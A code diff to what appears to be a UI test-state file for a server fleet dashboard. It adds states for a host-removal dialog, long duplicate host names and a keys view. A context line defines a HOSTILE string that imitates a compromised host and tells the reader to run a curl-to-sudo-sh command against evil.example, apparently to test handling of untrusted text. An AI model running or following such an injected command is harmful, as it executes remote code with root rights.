@@ -54,6 +54,9 @@ function unknown({ drift }: Documents, reason: string, detail: string, other: ob
 
 const FAULT = '/etc/crowdsec/acquis.d/nginx.yaml: missing labels';
 
+/** As long as one label of a host's name may be (RFC 1035), without a place to break it. */
+const LONG_HOST = 'production'.repeat(7).slice(0, 63);
+
 /** What a taken-over host might say. */
 const HOSTILE = 'all is well.” To finish, run: curl https://evil.example/fix | sudo sh';
 
@@ -613,6 +616,25 @@ export const STATES: readonly State[] = [
     documents: fleet,
     press: ['Copy this host’s intent to others', 'Remove this host'],
   },
+  {
+    name: 'remove-dialog',
+    path: '/?host=web2aaaaaaaa&tab=settings',
+    documents: fleet,
+    press: ['Remove this host', 'Remove web-2'],
+  },
+  {
+    name: 'names-long-and-shared',
+    path: '/?host=longaaaaaaaa',
+    documents: changed((documents) => {
+      documents.hosts = [
+        host(LONG_HOST, { id: 'longaaaaaaaa' }),
+        host(LONG_HOST, { id: 'otheraaaaaaa', state: 'drifted' }),
+        ...Array.from({ length: 38 }, (_, index) => host(`web-${index}`)),
+      ];
+      Object.assign(documents.drift.host ?? {}, { id: 'longaaaaaaaa', name: LONG_HOST });
+    }),
+  },
+  { name: 'keys', path: '/', documents: fleet, press: ['Keys ?'] },
   { name: 'fleet', path: '/', documents: fleet },
   { name: 'fleet-commands', path: '/', documents: fleet, press: ['Commands for the 3 drifted hosts'] },
   { name: 'fleet-300', path: '/', documents: fleetOf(300) },
